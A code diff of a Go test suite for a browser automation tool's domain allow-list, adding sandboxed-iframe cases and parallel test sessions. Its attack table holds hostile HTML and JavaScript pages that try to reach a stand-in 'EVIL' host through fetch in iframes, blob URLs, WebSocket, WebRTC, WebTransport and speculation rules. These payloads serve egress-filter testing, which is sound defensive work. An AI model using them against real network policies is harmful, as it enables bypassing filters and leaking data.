@@ -7,12 +7,14 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"slices"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
 	"github.com/coder/websocket"
+	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/skua-browser/skua/policy"
@@ -72,7 +74,11 @@ var attacks = []attack{
 	{name: "javascript-url", page: `<iframe src="javascript:fetch('EVIL/',{mode:'no-cors'})"></iframe>`},
 	{name: "data-frame", page: `<iframe src="data:text/html,<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
 	{name: "srcdoc", page: `<iframe srcdoc="<img src='EVIL/'>"></iframe>`},
-	{name: "sandboxed", page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`, blind: true},
+	{name: "sandboxed", page: `<iframe sandbox="allow-scripts" srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})</script>"></iframe>`},
+	{name: "sandboxed-image", page: `<iframe sandbox srcdoc="<img src='EVIL/'>"></iframe>`},
+	{name: "sandboxed-nested", page: `<iframe sandbox="allow-scripts" srcdoc="<iframe srcdoc='<img src=EVIL/>'></iframe>"></iframe>`},
+	{name: "sandboxed-made", page: `<script>f=document.createElement("iframe");f.sandbox="allow-scripts";f.srcdoc="<script>fetch('EVIL/',{mode:'no-cors'})<\/script>";document.documentElement.append(f)</script>`},
+	{name: "sandboxed-websocket", page: `<iframe sandbox="allow-scripts" srcdoc="<script>w=new WebSocket('ws://HOST/');w.onerror=w.onopen=()=>parent.postMessage(1,'*')</script>"></iframe><script>onmessage=()=>` + done + `</script>`, quiet: true},
 	{name: "blob-frame", page: `<script>f=document.createElement("iframe");f.src=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}));document.documentElement.append(f)</script>`},
 	{name: "blob-page", page: `<script>location=URL.createObjectURL(new Blob(["<img src=EVIL/>"],{type:"text/html"}))</script>`},
 	{name: "early-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);f.contentWindow.fetch("EVIL/",{mode:"no-cors"})</script>`},
@@ -94,7 +100,6 @@ var attacks = []attack{
 	{name: "download", page: `<script>onload=()=>location="EVIL/download"</script>`},
 	{name: "svg", page: `<svg><image href="EVIL/"/></svg>`},
 	{name: "speculation", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/"]}],"prerender":[{"source":"list","urls":["EVIL/"]}]}</script><script>setTimeout(()=>` + done + `,500)</script>`, quiet: true, blind: true},
-	{name: "preconnect", page: `<link rel=preconnect href="http://TCP/"><script>setTimeout(()=>` + done + `,300)</script>`, quiet: true, blind: true},
 	{name: "webrtc", page: `<script>p=new RTCPeerConnection({iceServers:[{urls:"stun:STUN"},{urls:"turn:STUN",username:"u",credential:"c"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))</script><script>if(!window.RTCPeerConnection)` + done + `</script>`, quiet: true},
 	{name: "webrtc-frame", page: `<script>f=document.createElement("iframe");document.documentElement.append(f);try{p=new f.contentWindow.RTCPeerConnection({iceServers:[{urls:"stun:STUN"}]});p.createDataChannel("d");p.onicegatheringstatechange=()=>p.iceGatheringState=="complete"&&(` + done + `);p.createOffer().then(o=>p.setLocalDescription(o))}catch{` + done + `}</script>`, quiet: true},
 	{name: "webtransport", page: `<script>try{w=new WebTransport("https://QUIC/");w.ready.then(()=>` + done + `,()=>` + done + `)}catch{` + done + `}</script>`, quiet: true},
@@ -103,7 +108,6 @@ var attacks = []attack{
 // battlefield is where attacks are tried: the allowed server, and the one that is not, under the names of the attacks.
 type battlefield struct {
 	good, evil *httptest.Server
-	tcp        net.Listener              // counts connections that ask for nothing
 	stun, quic map[string]net.PacketConn // by attack
 
 	mu      sync.Mutex
@@ -129,20 +133,6 @@ func newBattlefield(t testing.TB) *battlefield {
 	t.Cleanup(b.evil.Close)
 	b.good = httptest.NewServer(http.HandlerFunc(b.serveGood))
 	t.Cleanup(b.good.Close)
-	var err error
-	b.tcp, err = net.Listen("tcp", "127.0.0.1:0")
-	require.NoError(t, err)
-	t.Cleanup(func() { _ = b.tcp.Close() })
-	go func() {
-		for {
-			c, err := b.tcp.Accept()
-			if err != nil {
-				return
-			}
-			b.hit("preconnect")
-			_ = c.Close()
-		}
-	}()
 	for _, name := range []string{"webrtc", "webrtc-frame"} {
 		b.stun[name] = b.listen(t, name)
 	}
@@ -206,10 +196,6 @@ func (b *battlefield) fill(a attack, text string) string {
 	if c := b.stun[a.name]; c != nil {
 		r = append(r, "STUN", c.LocalAddr().String())
 	}
-	if a.name == "preconnect" {
-		_, port, _ := strings.Cut(b.tcp.Addr().String(), ":")
-		r = append(r, "TCP", a.name+".evil.localhost:"+port)
-	}
 	if c := b.quic[a.name]; c != nil {
 		r = append(r, "QUIC", c.LocalAddr().String())
 	}
@@ -263,82 +249,88 @@ func refusals(c *client) map[string]int {
 	return found
 }
 
-// try opens the pages of the attacks one after the other in a caller's session, and calls after for each.
-func (b *battlefield) run(c *client, args []string, skip func(attack) bool, after func(attack)) {
+// squads is how many sessions of a browser of ours try attacks at a time: each mostly waits.
+const squads = 6
+
+// run has sessions try attacks at a time, and calls after for each attack.
+func (b *battlefield) run(t *testing.T, sessions int, newClient func(testing.TB) *client, args []string, skip func(attack) bool, after func(*client, attack)) {
+	t.Helper()
+	t.Run("attacks", func(t *testing.T) { // which ends when all of them have been tried
+		for n := range sessions {
+			t.Run(strconv.Itoa(n), func(t *testing.T) {
+				t.Parallel()
+				var mine []attack
+				for i, a := range attacks {
+					if i%sessions == n && (skip == nil || !skip(a)) {
+						mine = append(mine, a)
+					}
+				}
+				b.tryAll(newClient(t), mine, args, after)
+			})
+		}
+	})
+}
+
+// tryAll opens the pages of attacks one after the other in a caller's session.
+func (b *battlefield) tryAll(c *client, mine []attack, args []string, after func(*client, attack)) {
 	c.t.Helper()
 	c.do(append(slices.Clone(args), "open", b.goodOrigin()+"/")...)
-	for _, a := range attacks {
-		if skip != nil && skip(a) {
-			continue
-		}
+	for _, a := range mine {
 		_ = c.try("open", b.goodOrigin()+"/attack/"+a.name) // a page that goes elsewhere at once may not be seen to arrive
-		after(a)
+		after(c, a)
 		for _, tab := range c.tabs() {
 			if id, _, _ := strings.Cut(tab, " "); !strings.HasSuffix(tab, " active") {
 				_ = c.try("tab", "close", id)
 			}
 		}
 	}
+	c.do("open", b.goodOrigin()+"/") // whatever the last one began has ended
 }
 
 func TestHostilePagesReachTheirHostsWithoutRules(t *testing.T) {
 	b := newBattlefield(t)
-	c := newClient(t)
-	var missed []string
-	b.run(c, nil, nil, func(a attack) {
-		until := time.Now().Add(20 * time.Second)
-		for !b.was(a.name) && time.Now().Before(until) {
-			time.Sleep(5 * time.Millisecond)
-		}
-		if !b.was(a.name) {
-			missed = append(missed, a.name)
-		}
+	b.run(t, squads, newClient, nil, nil, func(c *client, a attack) {
+		assert.Eventually(c.t, func() bool { return b.was(a.name) }, attackLimit, attackLook, "%s: an attack that does not work at all proves nothing", a.name)
 	})
-	require.Empty(t, missed, "attacks that do not work at all prove nothing")
 }
 
+// How long an attack may take to be seen, and how often it is looked for.
+const (
+	attackLimit = 30 * time.Second
+	attackLook  = 5 * time.Millisecond
+)
+
 // hold runs the attacks under rules, and wants none to reach its host. Told: each is to be seen to be tried, by what was refused.
-func (b *battlefield) hold(c *client, args []string, skip func(attack) bool, told bool) {
-	var untried []string
-	b.run(c, args, skip, func(a attack) {
-		tried := func() bool {
-			if !told {
-				return true
-			}
+func (b *battlefield) hold(t *testing.T, sessions int, newClient func(testing.TB) *client, args []string, skip func(attack) bool, told bool) {
+	b.run(t, sessions, newClient, args, skip, func(c *client, a attack) {
+		if !told {
+			return
+		}
+		assert.Eventually(c.t, func() bool {
 			if a.quiet {
-				return strings.Contains(c.do("get", "title").Result.Text, "tried")
+				return strings.Contains(c.try("get", "title").Result.Text, "tried") || b.was(a.name)
 			}
-			return refusals(c)[a.name+".evil.localhost"] > 0
-		}
-		until := time.Now().Add(20 * time.Second)
-		for !tried() && !b.was(a.name) {
-			if time.Now().After(until) {
-				untried = append(untried, a.name)
-				break
-			}
-			time.Sleep(5 * time.Millisecond)
-		}
+			return refusals(c)[a.name+".evil.localhost"] > 0 || b.was(a.name)
+		}, attackLimit, attackLook, "%s was not seen to be tried", a.name)
 	})
-	c.do("open", b.goodOrigin()+"/")
-	require.Empty(c.t, b.names(), "these reached their host")
-	require.Empty(c.t, untried, "these were not seen to be tried")
+	require.Empty(t, b.names(), "these reached their host")
 }
 
 const onlyGood = "good.localhost"
 
 func TestHostilePagesReachNothingInALaunchedBrowser(t *testing.T) {
 	b := newBattlefield(t)
-	b.hold(newClient(t), []string{"--allowed-domains", onlyGood}, nil, true)
+	b.hold(t, squads, newClient, []string{"--allowed-domains", onlyGood}, nil, true)
 }
 
 func TestHostilePagesReachNothingInAnAttachedBrowser(t *testing.T) {
 	b := newBattlefield(t)
 	theirs := startTheirs(t, t.TempDir())
-	b.hold(newClient(t), []string{"--cdp", theirs.port, "--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
+	b.hold(t, 1, newClient, []string{"--cdp", theirs.port, "--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
 }
 
 func TestHostilePagesReachNothingInAProfile(t *testing.T) {
 	b := newBattlefield(t)
 	s := newService(t, t.TempDir())
-	b.hold(s.task(), []string{"--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
+	b.hold(t, squads, func(testing.TB) *client { return s.task() }, []string{"--allowed-domains", onlyGood}, func(a attack) bool { return a.blind }, false)
 }
